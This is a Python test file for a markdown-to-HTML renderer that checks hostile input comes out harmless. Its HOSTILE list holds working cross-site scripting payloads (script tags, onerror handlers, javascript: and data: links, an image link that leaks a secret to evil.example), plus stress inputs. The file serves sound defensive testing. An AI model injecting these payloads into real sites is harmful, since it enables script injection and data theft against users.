import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.web.markdown import LiveMarkdown, Markdown, visible

markdown = Markdown(copy_label="Copy")

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=a></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/auth/logout)",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "![leak](https://evil.example/?q=secret)",
    "![leak](data:image/svg+xml,<svg/onload=alert(1)>)",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| `</td><script>` |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "[a]: javascript:alert(1)\n\n[a]",
    "> " * 200 + "deep",
    "*" * 3000 + "a" + "*" * 3000,
]


class Found(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.words = ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}

    def handle_data(self, data):
        self.words += data


def look(html: str) -> Found:
    found = Found()
    found.feed(html)
    return found


def assert_harmless(html: str) -> None:
    found = look(html)
    assert found.tags <= {
        "a", "blockquote", "br", "button", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
        "pre", "span", "strong", "table", "thead", "tbody", "tr", "th", "td", "ul",
    }  # fmt: skip
    for tag, name, value in found.attributes:
        assert name in {"href", "title", "rel", "target", "class", "type", "start"}, (tag, name)
        if name == "href":
            assert re.match(r"(https?:|mailto:)", value), value
        if name == "class":
            assert set(value.split()) <= {
                "code", "code-head", "code-copy", "code-language", "table-scroll", "right", "center"
            }  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str):
    assert_harmless(markdown.html(text))


@given(st.text(alphabet="<>\"'&;:/()[]!`*_#|-\n =abcjsonerimgxlt\u202e", max_size=200))
def test_whatever_is_written_is_harmless(text: str):
    assert_harmless(markdown.html(text))


def test_links_leave_without_a_trace():
    html = markdown.html("[guide](https://example.com/a?b=c&d)")
    away = 'target="_blank" rel="noopener noreferrer nofollow"'
    assert html == f'<p><a href="https://example.com/a?b=c&amp;d" {away}>guide</a></p>\n'


def test_pictures_are_links_that_nobody_fetches():
    html = markdown.html("![plan](https://example.com/plan.png)")
    assert "<img" not in html
    assert 'href="https://example.com/plan.png"' in html


def test_code_keeps_its_text_and_gets_a_head():
    html = markdown.html("```python\nif a < b:\n\tpass\n```")
    assert '<span class="code-language">python</span>' in html
    assert "Copy</button>" in html
    assert unescape(re.search(r"<pre><code>(.*)</code>", html, re.DOTALL).group(1)) == "if a < b:\n\tpass\n"


def test_the_copy_label_is_escaped():
    assert "&lt;b&gt;" in Markdown(copy_label="<b>").html("```\nx\n```")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("abc\u202edcba", "abc[U+202E]dcba"),
        ("a\u2066b\u2069", "a[U+2066]b[U+2069]"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("line\u2028break", "line\nbreak"),
        ("tag\U000e0041", "tag[U+E0041]"),
        ("שלום עולם 你好 é", "שלום עולם 你好 é"),
        ("👩\u200d👩", "👩\u200d👩"),
    ],
)
def test_what_deceives_the_eye_is_written_out(text: str, shown: str):
    assert visible(text) == shown


BLOCKS = st.sampled_from([
    "One sentence. ", "Zwei\n", "\n\n", "- item\n", "1. first\n", "2. second\n", "  more of it\n", "    indented\n",
    "```python\n", "```\n", "| a | b |\n|---|---|\n", "| 1 | 2 |\n", "> quoted\n", "# Head\n", "---\n", "===\n",
    "**bold", "** and `code`", "中文句子。", "[a](https://b.example)\n", "\t", "* ", "2", ". b\n",
])  # fmt: skip


def flat(html: str) -> list[str]:
    return re.sub(r"</?p>", "", html).split()


@given(st.lists(BLOCKS, max_size=25))
@example(["* ", "```python\n", "  more of it\n", "Zwei\n"])
def test_a_growing_answer_ends_as_the_stored_one(parts: list[str]):
    live = LiveMarkdown(markdown)
    pieces: list[str] = []
    for part in parts:
        live.add(part)
        kept, new = live.render()
        assert kept <= len(pieces)
        pieces[kept:] = new
    # Whether a list is tight may be decided by a line that is not there yet; that moves paragraphs' margins, no text.
    assert flat("".join(pieces)) == flat(markdown.html("".join(parts)))


@pytest.mark.parametrize("unit", ["[", "[[]", "![", "[x](y)\n\n", "<b>[\n"])
def test_brackets_without_end_cost_no_more_than_text(unit: str):
    text = unit * 60_000
    began = time.process_time()
    html = markdown.html(text)
    assert time.process_time() - began < 2, "20 s where each is looked at as a link"
    assert html.count("[") == text.count("[")
    assert "<b>" not in html


def test_finished_blocks_are_sent_once():
    live = LiveMarkdown(markdown)
    whole = [f"Paragraph {number} of many.\n\n" for number in range(200)]
    sent = 0
    for paragraph in whole:
        live.add(paragraph)
        sent += len("".join(live.render()[1]))
    assert sent < 3 * len(markdown.html("".join(whole)))


@pytest.mark.parametrize(
    "text", ["[" * 8000, "![" * 4000, "a**" * 3000, "a`" * 4000, "> " * 40 + "deep", "- " * 40 + "x"]
)
def test_nothing_is_lost_of_odd_texts(text: str):
    letters = look(markdown.html(text)).words
    assert [c for c in letters if c.isalpha()] == [c for c in text if c.isalpha()]
